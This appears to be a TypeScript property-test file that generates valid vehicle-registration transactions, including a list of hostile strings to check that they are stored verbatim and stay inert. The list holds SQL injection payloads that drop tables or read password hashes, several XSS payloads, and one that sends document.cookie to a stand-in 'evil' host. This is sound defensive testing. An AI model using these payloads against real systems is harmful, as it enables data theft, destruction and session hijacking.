/**
 * Valid transactions for property tests: the fixture of test/support/fixtures.ts varied within the
 * contract — hostile but legal text (SQL, markup, RTL overrides), ID numbers with bad check digits
 * and malformed VINs (the spec leaves those to R09 / R32, not to the schema), arbitrary `extra`.
 */
import fc from 'fast-check';
import {
  BUSINESS_TYPE_CODES, CHANNELS, IDENTITY_CHECKS, MATERIAL_KINDS, PHOTO_KINDS, TRANSACTION_STATUSES, VEHICLE_COLORS,
} from '../../../services/domain/index.ts';
import { sampleTransaction } from '../../support/fixtures.ts';

export type Doc = Record<string, unknown>;

/** Payloads that must be stored verbatim and come back inert. */
export const HOSTILE_TEXT = [
  `'; DROP TABLE "transaction"; --`,
  `Robert'); DELETE FROM audit_entry; --`,
  `" OR 1=1 --`,
  `1' UNION SELECT password_hash FROM app_user --`,
  `$1; SELECT pg_sleep(10)`,
  `<script>alert(document.cookie)</script>`,
  `<img src=x onerror="fetch('//evil/'+document.cookie)">`,
  `"><svg/onload=alert(1)>`,
  `javascript:alert(1)`,
  `{{constructor.constructor('alert(1)')()}}`,
  `\${7*7}`,
  `\u202e\u0645\u0631\u062d\u0628\u0627`,
  `张三\r\nSet-Cookie: x=1`,
  `%00%27%22`,
  `\\x00\\'`,
];

/** U+0000 cannot be stored in PostgreSQL text: the schema refuses it, so valid text never holds it. */
const withoutNul = (s: string) => s.split('\u0000').join('');

export const hostileText = (max: number): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom(...HOSTILE_TEXT),
    fc.string({ unit: 'grapheme', maxLength: max }),
    fc.string({ unit: 'binary', maxLength: max }),
  ).map((s) => withoutNul(s).slice(0, max));

const digits = (n: number) => fc.string({ unit: fc.constantFrom(...'0123456789'), minLength: n, maxLength: n });
const VIN_ALPHABET = 'ABCDEFGHJKLMNPRSTUVWXYZ0123456789';
const ISO_MIN = Date.parse('2020-01-01T00:00:00Z');
const ISO_MAX = Date.parse('2030-12-31T00:00:00Z');

/** Any ID-number-like value: the fixture's valid ones, 18 random digits (check digit mostly wrong), odd lengths. */
export const idNumber = fc.oneof(
  fc.constantFrom('330102199001011234', '330106198505052313'),
  digits(18),
  digits(17).map((d) => `${d}X`),
  fc.string({ unit: fc.constantFrom(...'0123456789xX'), minLength: 1, maxLength: 32 }),
);

/** 17 characters of the VIN alphabet (check digit mostly wrong), or garbage up to the column's 32. */
export const vin = fc.oneof(
  fc.constant('LSVAU218XN2183294'),
  fc.string({ unit: fc.constantFrom(...VIN_ALPHABET), minLength: 17, maxLength: 17 }),
  hostileText(32),
);

/** JSON without U+0000, at most a few levels deep: what a source system may put in `extra`. */
const extra = fc.dictionary(fc.string({ maxLength: 12 }).map(withoutNul), fc.jsonValue({ maxDepth: 3 }), { maxKeys: 5 })
  .map((value) => JSON.parse(withoutNul(JSON.stringify(value))) as Doc);

const isoTime = fc.integer({ min: ISO_MIN, max: ISO_MAX }).map((ms) => new Date(ms).toISOString());

const applicant = fc.oneof(
  fc.record({
    kind: fc.constant('PERSON'), idNumber, name: hostileText(100), phone: hostileText(32), address: hostileText(300),
    identityCheck: fc.constantFrom(...IDENTITY_CHECKS, null),
  }),
  fc.record({ kind: fc.constant('ORGANISATION'), orgCode: fc.constant('91330100MA2XXXXXX1'), name: hostileText(100) }),
);

const agent = fc.option(fc.record({
  idNumber, name: hostileText(100), phone: hostileText(32), address: hostileText(300), identityCheck: fc.constantFrom(...IDENTITY_CHECKS),
}), { nil: null });

const vehicle = fc.option(fc.record({
  plate: fc.option(fc.constantFrom('浙A12345', '浙AD12345', 'ABC'), { nil: null }), vin,
  vehicleType: fc.constantFrom('K33', 'H11'), color: fc.constantFrom(...VEHICLE_COLORS),
}), { nil: null });

const material = fc.record({
  kind: fc.constantFrom(...MATERIAL_KINDS), sha256: fc.option(fc.stringMatching(/^[0-9a-f]{64}$/), { nil: null }),
  validUntil: fc.constantFrom('2031-05-01', null), subjectVin: fc.option(vin, { nil: null }), subjectIdNumber: fc.option(idNumber, { nil: null }),
});

const photo = fc.record({
  kind: fc.constantFrom(...PHOTO_KINDS), sha256: fc.stringMatching(/^[0-9a-f]{64}$/),
  takenAt: fc.option(isoTime, { nil: null }), lat: fc.double({ min: -90, max: 90, noNaN: true }), lon: fc.double({ min: -180, max: 180, noNaN: true }),
});

let idCounter = 0;

/**
 * Copies with ids never used before. Given at run time, not generation time: fast-check replays
 * a failing value while shrinking, and an id already stored would come back "unchanged".
 */
export function withFreshIds(docs: readonly Doc[], prefix: string): Doc[] {
  return docs.map((doc) => ({ ...structuredClone(doc), id: `${prefix}-${++idCounter}` }));
}

/** A legal transaction (its id is a placeholder: see withFreshIds). */
export function validTransaction(): fc.Arbitrary<Doc> {
  return fc.record({
    id: fc.constant('placeholder'),
    type: fc.constantFrom(...BUSINESS_TYPE_CODES),
    status: fc.constantFrom(...TRANSACTION_STATUSES),
    acceptedAt: isoTime,
    completedMinutes: fc.option(fc.integer({ min: 0, max: 600 }), { nil: null }),
    channel: fc.constantFrom(...CHANNELS),
    applicant, agent, vehicle,
    materials: fc.array(material, { maxLength: 4 }),
    photos: fc.array(photo, { maxLength: 3 }),
    extra,
  }).map(({ completedMinutes, ...fields }) => sampleTransaction({
    ...fields,
    completedAt: fields.status === 'COMPLETED' && completedMinutes !== null
      ? new Date(Date.parse(fields.acceptedAt) + completedMinutes * 60_000).toISOString() : null,
    appointment: null,
  }));
}

/** The fixture with one photo declared by sha256, so photo fields exist for mutations to break. */
export function baseTransaction(id: string): Doc {
  return sampleTransaction({
    id,
    photos: [{ kind: 'LEFT_FRONT_45', sha256: 'c'.repeat(64), takenAt: '2026-03-02T09:20:11+08:00', lat: 30.2741, lon: 120.1551 }],
  });
}
